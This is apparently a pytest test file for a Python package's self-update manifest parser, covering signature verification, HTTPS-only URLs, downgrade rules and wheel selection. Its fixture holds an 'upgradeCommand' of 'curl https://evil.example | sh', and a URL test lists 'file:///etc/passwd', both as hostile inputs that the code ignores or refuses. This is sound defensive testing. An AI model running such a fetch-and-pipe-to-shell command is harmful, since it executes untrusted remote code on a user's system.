"""The manifest's parse, its signature and the choice of a target: plain code, no I/O."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from hypothesis import given, strategies as st
from packaging.tags import Tag
from packaging.version import Version

from edge.errors import UpdateError
from edge.update.manifest import (
    Manifest,
    choose_artifact,
    choose_target,
    decode_public_key,
    parse_manifest,
    require_https,
    signature_url,
    verify_signature,
)

SHA = "ab" * 32
LINUX = "https://dl.example/edge-0.2.0-cp311-cp311-linux_x86_64.whl"
ANY = "https://dl.example/edge-0.2.0-py3-none-any.whl"


def manifest(**override: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "latest": "0.2.0",
        "minimum": "0.1.0",
        "upgradeCommand": "curl https://evil.example | sh",
        "versions": {
            "0.2.0": {
                "spec": "edge==0.2.0",
                "artifacts": [
                    {"url": LINUX, "sha256": SHA.upper(), "size": 1234},
                    {"url": ANY, "sha256": "cd" * 32},
                ],
            },
            "0.1.0": {"url": "https://dl.example/edge-0.1.0-py3-none-any.whl", "sha256": SHA},
            "0.1.5": {"url": "https://dl.example/edge-0.1.5-py3-none-any.whl", "sha256": SHA},
        },
    }
    data.update(override)
    return data


def parse(data: dict[str, Any]) -> Manifest:
    return parse_manifest(json.dumps(data).encode())


def test_a_manifest_parses_and_its_upgrade_command_is_ignored() -> None:
    m = parse(manifest(newerKey={"x": 1}))
    assert m.latest == Version("0.2.0")
    assert m.minimum == Version("0.1.0")
    assert set(m.releases) == {Version("0.2.0"), Version("0.1.0"), Version("0.1.5")}
    new = m.releases[Version("0.2.0")]
    assert new.spec == "edge==0.2.0"
    assert [a.filename for a in new.artifacts] == [LINUX.rsplit("/", 1)[1], ANY.rsplit("/", 1)[1]]
    assert new.artifacts[0].sha256 == SHA
    assert new.artifacts[0].size == 1234
    assert Tag("cp311", "cp311", "linux_x86_64") in new.artifacts[0].tags
    assert m.releases[Version("0.1.0")].spec == "edge==0.1.0"  # the default spec
    assert sorted(m.ignored) == ["newerKey", "upgradeCommand"]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"latest": "0.3.0"}, "latest 0.3.0 is not in its versions"),
        ({"latest": "soon"}, "'soon' is not a version"),
        ({"latest": 2}, "latest must be a string"),
        ({"minimum": "0.9"}, "minimum 0.9 is above its latest 0.2.0"),
        ({"versions": []}, "versions must be an object"),
        ({"versions": {"0.2.0": {"url": LINUX}}}, "has no 'sha256'"),
        ({"versions": {"0.2.0": {"url": LINUX, "sha256": "abc"}}}, "is not 64 hex digits"),
        ({"versions": {"0.2.0": {"url": LINUX.replace("https", "http"), "sha256": SHA}}},
         "is not an https:// URL"),
        ({"versions": {"0.2.0": {"url": "https://x/edge-0.2.0.tar.gz", "sha256": SHA}}},
         "does not name a wheel"),
        ({"versions": {"0.2.0": {"url": "https://x/edge-0.3.0-py3-none-any.whl", "sha256": SHA}}},
         "not a wheel of edge 0.2.0"),
        ({"versions": {"0.2.0": {"url": "https://x/other-0.2.0-py3-none-any.whl", "sha256": SHA}}},
         "not a wheel of edge 0.2.0"),
        ({"versions": {"0.2.0": {"url": ANY, "sha256": SHA, "spec": "edge>=0.2.0"}}},
         "spec must be edge==0.2.0"),
        ({"versions": {"0.2.0": {"url": ANY, "sha256": SHA, "spec": "edge[x]==0.2.0"}}},
         "spec must be edge==0.2.0"),
        ({"versions": {"0.2.0": {"url": ANY, "sha256": SHA, "spec": "evil==0.2.0"}}},
         "spec must be edge==0.2.0"),
        ({"versions": {"0.2.0": {"url": ANY, "sha256": SHA, "size": True}}}, "size must be"),
        ({"versions": {"0.2.0": {"url": ANY, "sha256": SHA, "artifacts": []}}}, "give one of"),
        ({"versions": {"0.2.0": {"artifacts": []}}}, "artifacts is empty"),
        ({"versions": {"0.2.0": {"url": ANY, "sha256": SHA},
                       "0.2": {"url": ANY, "sha256": SHA}}}, "lists version 0.2 twice"),
    ],
)  # fmt: skip
def test_a_bad_manifest_is_refused_saying_why(change: dict[str, Any], message: str) -> None:
    with pytest.raises(UpdateError) as caught:
        parse(manifest(**change))
    assert message in str(caught.value)


@pytest.mark.parametrize("data", [b"", b"\xff\xfe", b"[1]", b'{"latest": "0.1.0"}', b"{" * 5000])
def test_what_is_no_manifest_is_refused(data: bytes) -> None:
    with pytest.raises(UpdateError):
        parse_manifest(data)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4)
    ),
    max_leaves=20,
)


@given(st.dictionaries(st.sampled_from(["latest", "minimum", "versions", "x"]), json_values))
def test_any_json_either_parses_or_is_an_update_error(data: dict[str, Any]) -> None:
    try:
        parse(data)
    except UpdateError:
        pass


# --- signatures -------------------------------------------------------------------------------


def _key() -> tuple[Ed25519PrivateKey, str]:
    private = Ed25519PrivateKey.generate()
    raw = private.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    return private, base64.b64encode(raw).decode()


def test_a_signature_verifies_and_a_changed_byte_does_not() -> None:
    private, public = _key()
    data = json.dumps(manifest()).encode()
    signature = base64.b64encode(private.sign(data)) + b"\n"
    verify_signature(data, signature, decode_public_key(public))
    with pytest.raises(UpdateError, match="does not verify against"):
        verify_signature(data.replace(b"0.2.0", b"0.2.1", 1), signature, decode_public_key(public))
    _, other = _key()
    with pytest.raises(UpdateError, match="does not verify against"):
        verify_signature(data, signature, decode_public_key(other))


@pytest.mark.parametrize("signature", [b"", b"not base64!", base64.b64encode(b"x" * 63)])
def test_a_malformed_signature_is_refused(signature: bytes) -> None:
    _, public = _key()
    with pytest.raises(UpdateError, match="64-byte Ed25519 signature"):
        verify_signature(b"{}", signature, decode_public_key(public))


@pytest.mark.parametrize("key", ["", "abc", base64.b64encode(b"k" * 31).decode(), "-----BEGIN"])
def test_a_malformed_public_key_is_refused(key: str) -> None:
    with pytest.raises(UpdateError, match=r"\[update\] public_key is not an Ed25519 public key"):
        decode_public_key(key)


def test_the_signature_is_beside_the_manifest_even_with_a_query() -> None:
    assert signature_url("https://x/v.json") == "https://x/v.json.sig"
    assert signature_url("https://x/v.json?ch=beta") == "https://x/v.json.sig?ch=beta"


@pytest.mark.parametrize(
    "url",
    ["http://x/v.json", "ftp://x/v", "file:///etc/passwd", "https:///nohost", "x", "HTTP://x"],
)
def test_only_https_urls_pass(url: str) -> None:
    with pytest.raises(UpdateError, match="is not an https:// URL: refused"):
        require_https(url, "the manifest URL")
    require_https("HTTPS://x.example/v.json", "the manifest URL")


@pytest.mark.parametrize(
    "url",
    ["https://x/v.json\n", "https://x/v .json", "\thttps://x/v.json", "https://x/v\x00",
     "https://x/v\x7f", "https://x/v\u2028"],
)  # fmt: skip
def test_white_space_and_control_characters_are_refused(url: str) -> None:
    """urlsplit drops a newline or a tab that httpx then refuses (InvalidURL)."""
    with pytest.raises(UpdateError, match="holds white space or a control character: refused"):
        require_https(url, "the manifest URL")


# --- the choice -------------------------------------------------------------------------------


def test_the_latest_is_the_target_and_the_same_is_up_to_date() -> None:
    m = parse(manifest())
    plan = choose_target(m, Version("0.1.0"))
    assert plan.target is not None
    assert plan.target.version == Version("0.2.0")
    assert plan.note == "0.1.0 → 0.2.0"
    assert not plan.downgrade
    same = choose_target(m, Version("0.2.0"))
    assert same.target is None
    assert "up to date" in same.note


def test_a_latest_older_than_what_runs_installs_nothing() -> None:
    plan = choose_target(parse(manifest()), Version("0.3.0"))
    assert plan.target is None
    assert "newer than the manifest's latest 0.2.0" in plan.note


def test_a_downgrade_needs_allowing_and_never_goes_below_the_minimum() -> None:
    m = parse(manifest())
    with pytest.raises(UpdateError, match=r"older than the installed 0.2.0: a downgrade, refused"):
        choose_target(m, Version("0.2.0"), to="0.1.5")
    plan = choose_target(m, Version("0.2.0"), to="0.1.5", allow_downgrade=True)
    assert plan.target is not None
    assert plan.downgrade
    low = parse(manifest(minimum="0.1.5"))
    with pytest.raises(UpdateError, match=r"below the manifest's minimum supported version 0.1.5"):
        choose_target(low, Version("0.2.0"), to="0.1.0", allow_downgrade=True)


def test_a_version_not_listed_is_refused() -> None:
    with pytest.raises(UpdateError, match=r"0\.9 is not in the manifest \(it lists 0.2.0, 0.1.5"):
        choose_target(parse(manifest()), Version("0.1.0"), to="0.9")
    with pytest.raises(UpdateError, match="is not a version"):
        choose_target(parse(manifest()), Version("0.1.0"), to="latest")


def test_the_wheel_this_interpreter_ranks_first_is_chosen() -> None:
    release = parse(manifest()).releases[Version("0.2.0")]
    linux = [Tag("cp311", "cp311", "linux_x86_64"), Tag("py3", "none", "any")]
    assert choose_artifact(release, linux).url == LINUX
    mac = [Tag("cp311", "cp311", "macosx_14_0_arm64"), Tag("py3", "none", "any")]
    assert choose_artifact(release, mac).url == ANY
    only = parse(manifest()).releases[Version("0.2.0")].artifacts[:1]
    with pytest.raises(UpdateError, match="has no wheel for cp311-cp311-macosx_14_0_arm64"):
        choose_artifact(type(release)(release.version, release.spec, only), mac)
